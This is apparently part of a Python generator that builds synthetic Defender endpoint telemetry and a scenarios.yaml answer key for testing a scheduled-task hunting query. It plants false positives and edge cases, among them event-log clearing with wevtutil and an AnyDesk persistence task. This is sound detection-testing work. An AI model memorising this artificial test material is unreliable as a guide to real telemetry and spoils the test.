            why=("Published false positive 2 wrapped in cmd.exe /c msiexec ... /quiet: cmd.exe is one of the four "
                 "shells the seed keeps, and it ran on two devices once each, so the seed reports it."),
            seed_reports_it=True, folder=_CMD, cmd=f"cmd.exe /c msiexec.exe /i {share}{msi} /quiet /norestart",
            task_name="\\Fabrikam\\Patching\\Deploy-" + msi.split("-")[0].split(".")[0])
        s = self.scenarios[k]
        for dev in (next(self.ws), next(self.ws)):
            ts = self.at(3, 12.0, 30)
            self.task_created(k, self.ll(dev, "svc_gp"), self.later(ts, -600, -300), s.task_name, "cmd.exe",
                              s.cmd.split(" ", 1)[1])
            p = self.run(k, dev, ts)
            self.conhost(p, ts)
            t = self.later(ts, 0.05, 0.1)
            msiexec = self.start(p, t, _SYS32 + "msiexec.exe", f"msiexec.exe  /i {share}{msi} /quiet /norestart")
            self.net(msiexec, self.later(t, 0.1, 0.3), self.private_ip("fs01"), 445, public=False)
            self.file(msiexec, self.later(t, 1, 3), "FileCreated", f"C:\\Windows\\Installer\\{self.choice(_HEX)}.msi")

    def fp_backup(self) -> None:
        folder = "C:\\Program Files\\Veeam\\Endpoint Backup\\"
        k = self.new(
            id="fp-backup-veeam", kind="false_positive", technique="T1053.005", seed_false_positive=3,
            title="Weekly Veeam Agent backup job on the file servers",
            why=("Published false positive 3: the Veeam agent's scheduled backup. Outside System32, weekly, so only "
                 "one run per server in the window: the seed reports it."),
            seed_reports_it=True, folder=folder + "Veeam.EndPoint.Manager.exe",
            cmd='"Veeam.EndPoint.Manager.exe" /backup', task_name="\\Veeam\\Veeam Endpoint Backup")
        for j, dev in enumerate((self.f.server("fs01"), self.f.server("fs02"))):
            ts = self.at(5, 22.0 + j * 0.5, 5)
            p = self.run(k, dev, ts, company="Veeam Software Group GmbH")
            for dll in ("Veeam.Backup.Common.dll", "Veeam.Backup.Model.dll"):
                self.dll(p, self.later(ts, 0.2, 0.6), folder + dll)
            self.net(p, self.later(ts, 2, 4), "10.10.5.20", 10005, "backup-repo01.corp.fabrikam.com", public=False)
            self.reg(p, self.later(ts, 3, 5), _HKLM + "Veeam\\Veeam Endpoint Backup", "LastBackupStartTime", "String",
                     "2026-11-07 22:00")
            job_log = f"C:\\ProgramData\\Veeam\\Endpoint\\Backup Job {self.f.short[dev].upper()}\\Job.Backup.log"
            self.file(p, self.later(ts, 1, 2), "FileModified", job_log)
        folder = "C:\\Program Files\\Acronis\\CommandLineTool\\"
        k = self.new(
            id="fp-backup-acronis", kind="false_positive", technique="T1053.005", seed_false_positive=3,
            title="Weekly Acronis disk backup of the SQL server",
            why=("Published false positive 3 with Acronis: acrocmd.exe backs the server up to the NAS once a week. "
                 "Rare and outside System32, so the seed reports it."),
            seed_reports_it=True, folder=folder + "acrocmd.exe",
            cmd="acrocmd.exe backup disk --loc=\\\\nas01\\backup\\sql01 --arc=sql01-weekly --silent_mode=on",
            task_name="\\Acronis\\sql01-weekly")
        ts = self.at(6, 1.0, 5)
        p = self.run(k, self.f.server("sql01"), ts, company="Acronis International GmbH")
        self.net(p, self.later(ts, 1, 2), "10.10.5.30", 445, "nas01.corp.fabrikam.com", public=False)
        self.dll(p, self.later(ts, 0.1, 0.3), folder + "acrocmd_lib.dll")
        self.file(p, self.later(ts, 2, 4), "FileCreated",
                  "C:\\ProgramData\\Acronis\\BackupAndRecovery\\MMS\\acrocmd.log")

    def fp_report(self) -> None:
        dev = self.f.server("app01")
        service_account = (_DOMAIN, "svc-reports", f"{self.f.domain_sid}-2201")
        k = self.new(
            id="fp-user-report", kind="false_positive", technique="T1053.005", seed_false_positive=4,
            title="Weekly report script run by a service account (powershell -File report.ps1)",
            why=("Published false positive 4: a reporting task runs report.ps1 (generate-report) every Monday as "
                 "svc-reports. Two runs in the window, powershell passes the path filter: the seed reports it."),
            seed_reports_it=True, folder=_POWERSHELL, task_name="\\Fabrikam\\Reports\\Weekly generate-report",
            cmd=("powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Reports\\report.ps1 "
                 "-Report generate-report -OutDir \\\\fs01\\reports"))
        for day in (0, 7):
            ts = self.at(day, 6.0, 1)
            # A task with stored credentials logs its account on as a batch job first.
            self.d.event("DeviceLogonEvents", self.ll(dev, "svc_schedule"), self.later(ts, -0.5, -0.1), "LogonSuccess",
                         rel=k, LogonType="Batch", AccountDomain=_DOMAIN, AccountName=service_account[1],
                         AccountSid=service_account[2], Protocol="Kerberos", LogonId=self.logon_id())
            p = self.run(k, dev, ts, service_account, "High")
            self.report_activity(p, ts, f"C:\\Scripts\\Reports\\out\\report-2026110{2 + day}.csv")

    def report_activity(self, p: int, ts: int, out: str) -> None:
        """What report.ps1 does, whoever starts it."""
        self.conhost(p, ts)
        self.dotnet(p, ts)
        self.ps_commands(p, ts, ["Invoke-Sqlcmd", "Export-Csv"])
        self.net(p, self.later(ts, 2, 3), self.private_ip("sql01"), 1433, public=False)
        self.net(p, self.later(ts, 20, 30), self.private_ip("fs01"), 445, public=False)
        self.file(p, self.later(ts, 15, 20), "FileCreated", out)

    def fp_eventlog(self) -> None:
        servers = [int(x) for x in self.rng.permutation([self.f.server(n) for n in ("app01", "sql01", "fs02")])]
        k = self.new(
            id="fp-eventlog-clear-cmd", kind="false_positive", technique="T1053.005", seed_false_positive=5,
            title="Log housekeeping task clearing the Application log through cmd.exe",
            why=("Published false positive 5: cmd.exe /c wevtutil cl Application. cmd.exe passes the path filter "
                 "and it ran once, so the seed reports it (with wevtutil as its child)."),
            seed_reports_it=True, folder=_CMD, cmd="cmd.exe /c wevtutil cl Application",
            task_name="\\Fabrikam\\Housekeeping\\ClearApplicationLog")
        ts = self.at(6, 4.0, 5)
        p = self.run(k, servers[0], ts)
        self.conhost(p, ts)
        wevtutil = self.start(p, self.later(ts, 0.05, 0.1), _SYS32 + "wevtutil.exe", "wevtutil  cl Application")
        self.dll(wevtutil, self.later(ts, 0.15, 0.2), _SYS32 + "wevtapi.dll")
        k = self.new(
            id="fp-eventlog-wevtutil-direct", kind="false_positive", technique="T1053.005", seed_false_positive=5,
            title="Log housekeeping task running wevtutil cl directly",
            why=("Published false positive 5 launched directly: wevtutil.exe is in System32 and not a shell, so the "
                 "seed's path filter drops it. The seed never reports it."),
            seed_reports_it=False, folder=_SYS32 + "wevtutil.exe", cmd="wevtutil.exe cl Application",
            task_name="\\Fabrikam\\Housekeeping\\ClearApplicationLog")
        ts = self.at(6, 4.0, 5)
        p = self.run(k, servers[1], ts)
        self.dll(p, self.later(ts, 0.05, 0.1), _SYS32 + "wevtapi.dll")

    # ---- edge cases --------------------------------------------------------------------------

    def edge_case_variants(self) -> None:
        k = self.new(
            id="edge-uppercase-cmd", kind="edge_case", technique="T1053.005",
            title="Inventory task recorded as CMD.EXE under c:\\windows\\system32",
            why=("Names in upper case and a lower-case path: =~ and !startswith ignore case, so the seed keeps it "
                 "and its tolower() matching still finds the activity rows. Rare: the seed reports it."),
            seed_reports_it=True, file="CMD.EXE", folder="c:\\windows\\system32\\cmd.exe",
            cmd="CMD.EXE /c C:\\ProgramData\\Inventory\\collect.cmd > C:\\ProgramData\\Inventory\\last.txt",
            task_name="\\Fabrikam\\Inventory\\Collect")
        dev = next(self.ws)
        for day in (1, 4):
            ts = self.at(day, 12.0, 30)
            p = self.run(k, dev, ts)
            self.conhost(p, ts)
            self.file(p, self.later(ts, 0.1, 0.2), "FileModified", "C:\\ProgramData\\Inventory\\last.txt")
            t = self.later(ts, 0.3, 0.5)
            script = self.start(p, t, _SYS32 + "cscript.exe",
                                "cscript.exe  //nologo C:\\ProgramData\\Inventory\\collect.vbs")
            self.net(script, self.later(t, 1, 2), self.private_ip("app01"), 443, "inventory.corp.fabrikam.com",
                     public=False)

        k = self.new(
            id="edge-lowercase-mpcmdrun", kind="edge_case", technique="T1053.005",
            title="Defender signature update recorded as mpcmdrun.exe (lower case)",
            why=("The seed drops FileName != \"MpCmdRun.exe\", a case-sensitive test, so the lower-case name "
                 "survives; it ran once and is outside System32, so the seed reports this benign Defender update."),
            seed_reports_it=True, folder=_MPCMDRUN.lower(),
            cmd="mpcmdrun.exe -SignatureUpdate -ScheduleJob -RestrictPrivileges",
            task_name="\\Microsoft\\Windows\\Windows Defender\\Windows Defender Signature Update")
        ts = self.at(4, 14.0)
        p = self.run(k, next(self.ws), ts, hash_key=_binary_key(_MPCMDRUN))
        self.conhost(p, ts)
        self.net(p, self.later(ts, 1, 2), "13.107.4.52", 443, "definitionupdates.microsoft.com")
        updates = "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\"
        self.file(p, self.later(ts, 5, 9), "FileCreated", f"{updates}{self.choice(_GUIDS)}\\mpasdlta.vdm")

    def edge_case_parents(self) -> None:
        dev = self.lower_parent_dev
        k = self.new(
            id="edge-parent-lowercase-schedule", kind="edge_case", technique="T1219",
            title="Remote-access tool started by a Schedule host recorded as '-s schedule'",
            why=("On this device the Task Scheduler host's command line reads 'svchost.exe -k netsvcs -p -s "
                 "schedule'. The seed's == is case-sensitive, so it never sees this rare AnyDesk persistence (or "
                 "any task here)."),
            seed_reports_it=False, folder="C:\\ProgramData\\AnyDesk\\AnyDesk.exe", cmd='"AnyDesk.exe" --service',
            task_name="\\AnyDesk Service Start", launched_by=self.f.sched_cmd[dev])
        ts = self.at(4, 19.5)
        p = self.run(k, dev, ts, company="AnyDesk Software GmbH")
        relay = f"relay-{self.choice(_HEX)}.net.anydesk.com"
        self.net(p, self.later(ts, 1, 2), _public_ip(self.rng, 195), 443, relay)
        self.file(p, self.later(ts, 2, 3), "FileModified", "C:\\ProgramData\\AnyDesk\\service.conf")

        dev = self.no_s_flag_dev
        k = self.new(
            id="edge-parent-no-s-flag", kind="edge_case", technique="T1053.005",
            title="Printer sync script on a device whose Schedule host has no '-s Schedule'",
            why=("On low-memory devices Windows does not split services, so the Task Scheduler runs in "
                 "'svchost.exe -k netsvcs -p'. The seed's exact command-line match misses all tasks there, this "
                 "rare script included."),
            seed_reports_it=False, folder=_POWERSHELL,
            cmd="powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\sync-printers.ps1",
            task_name="\\Fabrikam\\SyncPrinters", launched_by=self.f.sched_cmd[dev])
        for day in (2, 5):
            ts = self.at(day, 7.0, 10)
            p = self.run(k, dev, ts)
            self.conhost(p, ts)
            self.dotnet(p, ts)
            self.net(p, self.later(ts, 2, 4), self.private_ip("fs02"), 445, public=False)

    def edge_case_outputs(self) -> None:
        k = self.new(
            id="edge-rare-no-activity", kind="edge_case", technique="T1053.005",
            title="Rare vendor update check that leaves no activity",
            why=("Dell Command Update ran once and did nothing Defender records. The seed keeps it as rare, but its "
                 "last step finds no activity rows, so it never appears in the seed's output."),
            seed_reports_it=True, folder="C:\\Program Files\\Dell\\CommandUpdate\\dcu-cli.exe",
            cmd='"dcu-cli.exe" /scan -silent', task_name="\\Dell\\CommandUpdate\\Scan")
        self.run(k, next(self.ws), self.at(2, 11.0), company="Dell Inc.")

        # The report script started by hand: needs fp-user-report, whose command line it repeats.
        report = next(s for s in self.scenarios if s.id == "fp-user-report")
        dev = next(self.ws)
        k = self.new(
            id="edge-same-cmdline-manual-run", kind="edge_case", technique="T1059.001",
            title="The report script run by hand on an admin's workstation",
            why=("An admin tests report.ps1 from a console with the task's exact command line. It is not a task, but "
                 "the seed matches activity by name, command line and path only (no device, no parent), so its rows "
                 "join the rare task's results."),
            seed_reports_it=True, folder=report.folder, cmd=report.cmd, launched_by='"cmd.exe"')
        ts = self.at(3, 14.0, 60)
        shell = self.start(self.ll(dev, "explorer"), self.later(ts, -120, -60), _CMD, '"cmd.exe"', integrity="High",
                           tag=-1, rel=k)
        p = self.run(k, dev, ts, self.user(dev), "High", parent=shell)
        self.report_activity(p, ts, "C:\\Scripts\\Reports\\out\\report-test.csv")

    def plant_all(self) -> list[_Scenario]:
        for plant in (self.mal_encoded_powershell, self.mal_rundll32_user_dll, self.mal_regsvr32_scriptlet,
                      self.mal_masquerade_appdata, self.mal_atexec, self.mal_hourly_beacon, self.fp_maintenance,
                      self.fp_patching, self.fp_backup, self.fp_report, self.fp_eventlog, self.edge_case_variants,
                      self.edge_case_parents, self.edge_case_outputs):
            plant()
        return self.scenarios


# --------------------------------------------------------------------------------------------
# From pieces to sorted tables, and to files.
# --------------------------------------------------------------------------------------------


def _rows_piece(table: str, rows: list[dict[str, Any]]) -> dict[str, Any] | None:
    """The row-by-row scenario events of one table as a piece."""
    if not rows:
        return None
    frame = pd.DataFrame(rows)
    piece: dict[str, Any] = {}
    for col in frame.columns:
        if col in ("_proc", "_rel", "Timestamp") or _type(table, col) in ("long", "int"):
            piece[col] = frame[col].fillna(_NULL).to_numpy(np.int64)
        else:
            piece[col] = pd.Categorical(frame[col].fillna("").to_numpy(object))
    return piece


def _concat(pieces: list[dict[str, Any]], col: str, kind: str) -> Any:
    """One column over all pieces; a piece without it gets "" / null."""
    parts = []
    for p in pieces:
        n = len(p["_proc"])
        value = p.get(col)
        if kind == "str":
            parts.append(_as_cat(value if value is not None else "", n))
        else:
            fill = _NAT if kind == "time" else _NULL
            parts.append(np.full(n, fill, np.int64) if value is None else np.asarray(value, np.int64))
    return union_categoricals(parts) if kind == "str" else np.concatenate(parts)


def _kind(table: str, col: str) -> str:
    t = _type(table, col)
    return "time" if t == "datetime" else "int" if t in ("long", "int") else "str"


def _build_table(data: _Data, table: str, first_report_id: int) -> tuple[dict[str, Any], np.ndarray, np.ndarray]:
    """A table's columns sorted by time, with ReportIds; plus each row's scenario and relation."""
    pieces = list(data.pieces[table])
    scenario_rows = _rows_piece(table, data.rows[table])
    if scenario_rows is not None:
        pieces.append(scenario_rows)
    data.pieces[table] = []
    ts = np.concatenate([p["Timestamp"] for p in pieces])
    order = np.argsort(ts, kind="stable")
    proc = np.concatenate([p["_proc"] for p in pieces])[order]
    rel = _concat(pieces, "_rel", "int")[order]
    P = data.P
    actor = P["parent"][proc] if table == PROCESS_TABLE else proc
    actor_parent = np.where(actor >= 0, P["parent"][np.maximum(actor, 0)], -1)

    def from_procs(col: str, idx: np.ndarray) -> Any:
        if col in _P_STR:
            return _take_cat(P[col], idx)
        return _take_int(P[col], idx, _NAT if col == "created" else _NULL)

    out: dict[str, Any] = {}
    device = P["device"][proc]
    for col in _columns(table):
        if col == "Timestamp":
            out[col] = ts[order]
        elif col == "ReportId":
            out[col] = first_report_id + np.arange(len(ts), dtype=np.int64)
        elif col == "DeviceName":
            out[col] = pd.Categorical.from_codes(device, categories=data.fleet.names)
        elif col == "DeviceId":
            out[col] = pd.Categorical.from_codes(device, categories=data.fleet.ids)
        elif col in _INITIATING:
            out[col] = from_procs(_INITIATING[col], actor)
        elif col in _INITIATING_PARENT:
            out[col] = from_procs(_INITIATING_PARENT[col], actor_parent)
        elif table == PROCESS_TABLE and col in _CREATED:
            out[col] = from_procs(_CREATED[col], proc)
        else:
            values = _concat(pieces, col, _kind(table, col))
            out[col] = values.take(order) if isinstance(values, pd.Categorical) else values[order]
    return out, P["scn"][proc], rel


_CHUNK = 1_000_000  # rows per CSV chunk / parquet row group


def _write_csv(path: Path, table: str, cols: dict[str, Any], n: int) -> None:
    """Gzip-compressed CSV, byte-reproducible: fixed name and mtime 0 in the gzip header."""
    with open(path, "wb") as raw, gzip.GzipFile(filename=path.name, mode="wb", fileobj=raw, mtime=0,
                                                 compresslevel=9) as gz:
        for start in range(0, max(n, 1), _CHUNK):
            stop = min(n, start + _CHUNK)
            frame = {}
            for col, values in cols.items():
                part = values[start:stop]
                kind = _kind(table, col)
                if kind == "time":
                    frame[col] = _iso7(part)
                elif kind == "int":
                    frame[col] = pd.arrays.IntegerArray(part, mask=part == _NULL)
                else:
                    frame[col] = part
            text = pd.DataFrame(frame).to_csv(index=False, header=start == 0, lineterminator="\n")
            gz.write(text.encode("utf-8"))


_ARROW_TYPES = {"time": pa.timestamp("ns", tz="UTC"), "int": pa.int64(), "str": pa.string()}


def _write_parquet(path: Path, table: str, cols: dict[str, Any], n: int) -> None:
    """Parquet with Defender types: timestamp[ns, UTC], nullable int64, strings; in row groups."""
    schema = pa.schema([(c, _ARROW_TYPES[_kind(table, c)]) for c in cols])
    with pq.ParquetWriter(path, schema, compression="zstd") as writer:
        for start in range(0, max(n, 1), _CHUNK):
            stop = min(n, start + _CHUNK)
            arrays = []
            for col, values in cols.items():
                part = values[start:stop]
                kind = _kind(table, col)
                if kind == "str":
                    dictionary = pa.array(np.asarray(part.categories, dtype=object), type=pa.string())
                    arrays.append(pa.DictionaryArray.from_arrays(pa.array(part.codes.astype(np.int32)), dictionary)
                                  .cast(pa.string()))
                else:
                    null = part == (_NAT if kind == "time" else _NULL)
                    arrays.append(pa.array(part, type=pa.int64(), mask=null).cast(_ARROW_TYPES[kind]))
            writer.write_table(pa.Table.from_arrays(arrays, schema=schema))


def _scenario_record(s: _Scenario, fleet: _Fleet, report_ids: dict, related: dict) -> dict[str, Any]:
    """One entry of scenarios.yaml (``related``: rows tied to the scenario outside its process tree)."""
    names = [fleet.names[d] for d in s.devices]
    record: dict[str, Any] = {"id": s.id, "kind": s.kind, "title": s.title, "technique": s.technique, "why": s.why}
    if s.seed_false_positive:
        record["seed_false_positive"] = s.seed_false_positive
    record.update({"device": names[0]} if len(names) == 1 else {"devices": names})
    record.update({"account": s.account, "FileName": s.file, "ProcessCommandLine": s.cmd, "FolderPath": s.folder,
                   "launched_by": s.launched_by})
    if s.task_name:
        record["task_name"] = s.task_name
    record.update({
        "runs": s.runs,
        "seed_reports_it": s.seed_reports_it,
        # A table holds activity if it has rows besides the task's own start rows.
        "activity_tables": sorted(t for t, ids in report_ids.items()
                                  if len(ids) > (s.runs if t == PROCESS_TABLE else 0)),
        "report_ids": report_ids,
    })
    if related:
        record["related_report_ids"] = related
    return record


def generate_sample(output_dir: str | Path, scale: float = 1.0, fmt: str = "csv", seed: int = 7) -> dict[str, int]:
    """Write the seven tables and ``scenarios.yaml`` into ``output_dir``; return rows per table.

    ``scale`` multiplies the background volume: 1.0 gives about 60k rows on 46 devices over 8 days,
    about 18 gives 1M rows and 180 gives 10M (the fleet grows with the square root of the scale).
    ``fmt`` is "csv" (``<Table>.csv.gz``) or "parquet" (``<Table>.parquet``). The same ``seed``
    always gives byte-identical files; another seed plants the same scenarios on other devices,
    users, hosts and times. ``scenarios.yaml`` is the answer key: what was planted, which rows
    (ReportId, unique across all tables) belong to it, and what the published query does with it.
    """
    if fmt not in ("csv", "parquet"):
        raise ValueError(f"fmt must be 'csv' or 'parquet', not {fmt!r}")
    if scale <= 0:
        raise ValueError("scale must be positive")
    out = Path(output_dir)
    out.mkdir(parents=True, exist_ok=True)
    # Independent streams, so that the background does not shift when a scenario changes.
    rng_fleet, rng_plan, rng_bg, rng_tasks = np.random.default_rng(seed).spawn(4)

    fleet = _make_fleet(rng_fleet, scale)
    data = _Data(fleet, seed)
    planter = _Planter(data, rng_plan)  # picks the edge-case devices before their processes exist
    _long_lived(data, rng_bg)
    _background_processes(data, rng_bg, scale)
    _background_events(data, rng_bg, scale)
    _everyday_tasks(data, rng_tasks, scale, {planter.lower_parent_dev, planter.no_s_flag_dev})
    scenarios = planter.plant_all()
    data.freeze()

    counts: dict[str, int] = {}
    ids: list[dict[str, list[int]]] = [{} for _ in scenarios]
    rel_ids: list[dict[str, list[int]]] = [{} for _ in scenarios]
    next_id = 1
    for table in TABLES:
        cols, scn, rel = _build_table(data, table, next_id)
        n = len(scn)
        for k in np.unique(scn[scn >= 0]):
            ids[k][table] = sorted(int(x) for x in cols["ReportId"][scn == k])
        for k in np.unique(rel[rel >= 0]):
            rel_ids[k][table] = sorted(int(x) for x in cols["ReportId"][rel == k])
        if fmt == "csv":
            _write_csv(out / f"{table}.csv.gz", table, cols, n)
        else:
            _write_parquet(out / f"{table}.parquet", table, cols, n)
        counts[table] = n
        next_id += n
        del cols

    key = {
        "seed": seed,
        "scale": scale,
        "window": {"start": WINDOW_START, "end": WINDOW_END},
        "devices": len(fleet.names),
        "rows": counts,
        "scenarios": [_scenario_record(s, fleet, ids[k], rel_ids[k]) for k, s in enumerate(scenarios)],
    }
    text = yaml.safe_dump(key, sort_keys=False, allow_unicode=True, width=110, default_flow_style=None)
    header = "# Answer key of the planted scenarios; written by hunting_lib.sample.generator.\n"
    (out / "scenarios.yaml").write_text(header + text, encoding="utf-8")
    return counts
